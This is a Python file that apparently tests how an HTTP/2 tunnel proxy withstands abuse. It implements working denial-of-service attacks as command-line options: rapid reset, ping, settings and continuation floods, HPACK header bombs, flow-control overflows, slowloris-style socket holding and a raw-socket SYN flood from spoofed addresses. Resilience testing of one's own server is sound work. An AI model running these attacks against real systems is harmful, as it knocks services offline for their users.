"""A client with a good certificate and bad manners. Reports as one JSON document what came of it: whether it was cut, and what it saw."""

import argparse
import json
import socket
import ssl
import sys
import time

import hpack

import frames
import hbone
from frames import ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, PUSH, SETTINGS, UNKNOWN, frame, window, word

MANY = 300_000


def arguments():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("attack", choices=sorted(ATTACKS) + sorted(BELOW))
    p.add_argument("--to", required=True, help="ADDRESS:PORT; or the path of a Unix socket")
    p.add_argument("--cert")
    p.add_argument("--key")
    p.add_argument("--roots")
    p.add_argument("--authority", default="", help="what CONNECTs ask for")
    p.add_argument("--sibling", default="", help="an echo on the same connection, to see whether it lives on")
    p.add_argument("--count", type=int, default=0, help="how many, where the attack has a number")
    p.add_argument("--seconds", type=float, default=8, help="how long to wait for being cut, or to go on")
    p.add_argument("--spoof", default="198.18.2", help="the first three parts of the addresses of nobody")
    p.add_argument("--linger", type=float, default=0, help="seconds to stay connected after the attack")
    return p.parse_args()


class Attack:
    def __init__(self, args, wire):
        self.args, self.wire = args, wire
        self.next = 1
        wire.send(frames.PREFACE + frames.settings(push=0, window=4 << 20) + window(0, (16 << 20) - 65535))
        self.settle()

    def settle(self, seconds=0.2):
        end = time.monotonic() + seconds
        while time.monotonic() < end and not self.wire.end:
            for kind, flags, _, payload in self.wire.read(0.05):
                if kind == SETTINGS and not flags & ACK:
                    self.wire.send(frame(SETTINGS, ACK))
                elif kind == PING and not flags & ACK:
                    self.wire.send(frame(PING, ACK, 0, payload))

    def number(self):
        stream, self.next = self.next, self.next + 2
        return stream

    def stream(self, authority=None, flags=END_HEADERS):
        stream = self.number()
        return stream, self.wire.connect(stream, authority or self.args.authority, flags)

    def opened(self):
        stream, headers = self.stream()
        self.wire.send(headers)
        self.settle()
        return stream

    def repeat(self, one, count=MANY):
        self.wire.send(one * (self.args.count or count))

    def sibling(self):
        """Whether an echo on this connection answers."""
        if self.wire.end:
            return False
        before = self.wire.seen["data"]
        stream, headers = self.stream(self.args.sibling)
        self.wire.send(headers + frame(DATA, END_STREAM, stream, b"ping"))
        end = time.monotonic() + 10
        while time.monotonic() < end and not self.wire.end and self.wire.seen["data"] == before:
            self.settle(0.05)
        return self.wire.seen["data"] > before


def ping(a):
    a.repeat(frame(PING, payload=b"12345678"))


def settings(a):
    a.repeat(frames.settings(window=1 << 20) + frames.settings(window=1 << 16), MANY // 2)


def settings_acks(a):
    a.repeat(frame(SETTINGS, ACK), 100)


def priority(a):
    a.repeat(frame(PRIORITY, stream=1, payload=word(0) + b"\x10"))


def unknown(a):
    a.repeat(frame(UNKNOWN))


def goaways(a):
    a.repeat(frames.goaway(0))


def window_flood(a):
    stream = a.opened()
    a.repeat(window(stream, 1) + window(0, 1), 2 * MANY)


def window_of_closed(a):
    stream = a.opened()
    a.wire.send(frames.reset(stream))
    a.repeat(window(stream, 1), 4 * MANY)


def reset_flood(a):
    stream = a.opened()
    a.repeat(frames.reset(stream), 4 * MANY)


def rapid_reset(a):
    wire = b""
    for _ in range(a.args.count or 5000):
        stream, headers = a.stream()
        wire += headers + frames.reset(stream)
    a.wire.send(wire)


def empty_data(a):
    a.repeat(frame(DATA, 0, a.opened()), 5000)


def continuation(a):
    stream = a.number()
    a.wire.send(frame(HEADERS, 0, stream, b"\x00\x7f\xff\xff\xff\x07"))
    a.repeat(frame(CONTINUATION, 0, stream, b"x" * 16384), 2000)


def continuation_small(a):
    stream = a.number()
    a.wire.send(frame(HEADERS, 0, stream, b"\x83"))
    a.repeat(frame(CONTINUATION, 0, stream), MANY)


def header_bomb(a):
    # One header of nearly the whole table, then a thousand references to it of one byte each: 4 MB from 5 KB.
    stream = a.number()
    literal = a.wire.encoder.encode([(":method", "CONNECT"), (":authority", a.args.authority), ("bomb", "x" * 4000)], huffman=False)
    a.wire.send(frame(HEADERS, END_HEADERS, stream, literal + b"\xbe" * 1000))


def header_bombs_small(a):
    # Within what h2 tolerates of a list (four times the limit), over and over.
    for _ in range(a.args.count or 300):
        stream = a.number()
        headers = [(":method", "CONNECT"), (":authority", a.args.authority)]
        headers += [hpack.NeverIndexedHeaderTuple(f"bomb-{n}", "x" * 3900) for n in range(5)]
        a.wire.send(frame(HEADERS, END_HEADERS, stream, a.wire.encoder.encode(headers)))
        a.settle(0.005)


def window_overflow(a):
    a.wire.send(window(0, (1 << 31) - 1))


def window_overflow_stream(a):
    a.wire.send(window(a.opened(), (1 << 31) - 1))


def window_zero(a):
    a.wire.send(window(0, 0))


def settings_overflow(a):
    a.wire.send(frames.settings(window=1 << 31))


def big_frame(a):
    a.wire.send((2 << 20).to_bytes(3, "big") + bytes([DATA, 0]) + word(a.opened()) + b"x" * 70000)


def big_unknown(a):
    a.wire.send(frame(UNKNOWN, payload=b"x" * (1 << 20)))


def data_on_closed(a):
    stream = a.opened()
    a.wire.send(frames.reset(stream))
    a.repeat(frame(DATA, 0, stream, b"x"), 5000)


def data_on_idle(a):
    a.wire.send(frame(DATA, 0, 101, b"x"))


def even_stream(a):
    a.wire.send(a.wire.connect(2, a.args.authority))


def push(a):
    a.wire.send(frame(PUSH, END_HEADERS, a.opened(), word(2) + a.wire.encoder.encode([(":method", "GET")])))


def over_window(a):
    # More than the stream's window and the kernel's buffers together, to an application that does not read.
    stream = a.opened()
    a.wire.send(frame(DATA, 0, stream, b"x" * 16384) * 2400)


def tiny(a):
    # Small writes that nobody reads.
    stream = a.opened()
    for _ in range((a.args.count or 145) // 145):
        a.wire.send(frame(DATA, 0, stream, b"x") * 145)


def bodies_first(a):
    # CONNECTs whose streams are full before any answer.
    wire = b""
    for _ in range(a.args.count or 40):
        stream, headers = a.stream()
        wire += headers + frame(DATA, 0, stream, b"x" * 16384) * 64
    a.wire.send(wire)


def pinned(a):
    # Large frames that are read and small ones that are not, in turns: the small ones must not keep the buffers of the large.
    small = a.opened()
    large, headers = a.stream(a.args.sibling)
    a.wire.send(headers)
    a.settle()
    block = b"x" * (1 << 20)
    for _ in range(a.args.count or 200):
        a.wire.send(frame(DATA, 0, large, block) + frame(DATA, 0, small, b"y" * 4096))
        got = a.wire.seen["data"]
        # The echo gives window as it comes back; so do we.
        while a.wire.seen["data"] < got + len(block) and not a.wire.end:
            before = a.wire.seen["data"]
            a.settle(0.01)
            more = a.wire.seen["data"] - before
            if more:
                a.wire.send(window(0, more) + window(large, more))


def wrong_authorities(a):
    # No more at a time than the server allows.
    total, batch = a.args.count or 3000, 50
    for start in range(0, total, batch):
        wire = b""
        for n in range(start, start + batch):
            stream, headers = a.stream(f"198.18.77.{n % 250}:{n % 60000 + 1}")
            wire += headers
        a.wire.send(wire)
        until = time.monotonic() + 5
        while a.wire.seen["statuses"].get("400", 0) < start + batch and time.monotonic() < until and not a.wire.end:
            a.settle(0.01)


def too_many_streams(a):
    for _ in range(a.args.count or 1000):
        a.wire.send(a.stream()[1])


ATTACKS = {
    one.__name__.replace("_", "-"): one
    for one in (
        ping, settings, settings_acks, priority, unknown, goaways, window_flood, window_of_closed, reset_flood, rapid_reset, empty_data,
        continuation, continuation_small, header_bomb, header_bombs_small, window_overflow, window_overflow_stream, window_zero,
        settings_overflow, big_frame, big_unknown, data_on_closed, data_on_idle, even_stream, push, over_window, tiny, bodies_first,
        pinned, wrong_authorities, too_many_streams,
    )
}


# Attacks below HTTP/2: many sockets, held for some seconds.


def tcp(to):
    if to.startswith("/"):
        made = socket.socket(socket.AF_UNIX)
        made.settimeout(5)
        made.connect(to)
        return made
    address, _, port = to.rpartition(":")
    return hbone.dial(address.strip("[]"), int(port))


def hello(args):
    """The first flight of a handshake."""
    context = hbone.context(False, args.cert, args.key, args.roots)
    out = ssl.MemoryBIO()
    tls = context.wrap_bio(ssl.MemoryBIO(), out)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def hold(args, begin, go_on=None):
    """Opens sockets, says something on each, and keeps them; counts those that the other side closes."""
    made, refused, closed = [], 0, set()
    start = time.monotonic()
    while len(made) + refused < args.count:
        try:
            one = tcp(args.to)
            one.sendall(begin)
            one.setblocking(False)
            made.append(one)
        except OSError:
            refused += 1
        if time.monotonic() > start + 20:
            break
    step = 0
    while time.monotonic() < start + args.seconds:
        for n, one in enumerate(made):
            if n in closed:
                continue
            try:
                if go_on:
                    one.send(go_on(step))
                if one.recv(1 << 16) == b"":
                    closed.add(n)
            except BlockingIOError:
                pass
            except OSError:
                closed.add(n)
        step += 1
        time.sleep(0.2)
    return {"opened": len(made), "refused": refused, "closed": len(closed)}


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(int.from_bytes(data[n : n + 2], "big") for n in range(0, len(data), 2))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return (~total & 0xFFFF).to_bytes(2, "big")


def syns(args):
    """SYNs (IPv4) from addresses of nobody, who never answer the SYN-ACK. Needs CAP_NET_RAW."""
    address, _, port = args.to.rpartition(":")
    destination = socket.inet_aton(address)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for n in range(args.count):
        source = socket.inet_aton(f"{args.spoof}.{200 + n % 50}")
        head = (1024 + n % 60000).to_bytes(2, "big") + int(port).to_bytes(2, "big") + word(n) + word(0) + b"\x50\x02\xff\xff"
        pseudo = source + destination + b"\0\x06" + (20).to_bytes(2, "big")
        tcp_header = head + checksum(pseudo + head + b"\0\0\0\0") + b"\0\0"
        # Length and checksum of the IP header are the kernel's to fill in (raw(7)).
        ip_header = b"\x45\0\0\0" + b"\0\0\0\0" + b"\x40\x06\0\0" + source + destination
        raw.sendto(ip_header + tcp_header, (address, 0))
    return {"opened": 0, "refused": 0, "closed": 0, "sent": args.count}


def slow_handshakes(args):
    first = hello(args)
    return hold(args, first[:5], lambda step: first[5 + step : 6 + step] or b"x")


def silent(args):
    return hold(args, b"")


def garbage(args):
    return hold(args, bytes(range(256)) * 64)


def slow_request(args):
    return hold(args, b"GET /metrics HTTP/1.1\r\n", lambda step: b"x")


def huge_request(args):
    return hold(args, b"GET /" + b"x" * 100_000, lambda step: b"x" * 10_000)


def reset_after_open(args):
    refused = 0
    for _ in range(args.count):
        try:
            one = tcp(args.to)
            one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\0\0\0\0\0\0\0")
            one.close()
        except OSError:
            refused += 1
    return {"opened": args.count - refused, "refused": refused, "closed": 0}


BELOW = {
    one.__name__.replace("_", "-"): one
    for one in (slow_handshakes, silent, garbage, slow_request, huge_request, reset_after_open, syns)
}


def main():
    args = arguments()
    if args.attack in BELOW:
        report = BELOW[args.attack](args)
    else:
        tls = hbone.context(False, args.cert, args.key, args.roots).wrap_socket(tcp(args.to))
        wire = frames.Wire(tls)
        attack = Attack(args, wire)
        ATTACKS[args.attack](attack)
        alive = attack.sibling() if args.sibling else None
        end = time.monotonic() + (args.linger or args.seconds)
        while not wire.end and time.monotonic() < end and alive is None:
            attack.settle(0.1)
        if args.linger and alive:
            attack.settle(args.linger)
        report = {"cut": wire.end is not None, "why": wire.end, "sibling": alive, **wire.seen}
    json.dump(report, sys.stdout)
    print()


main()
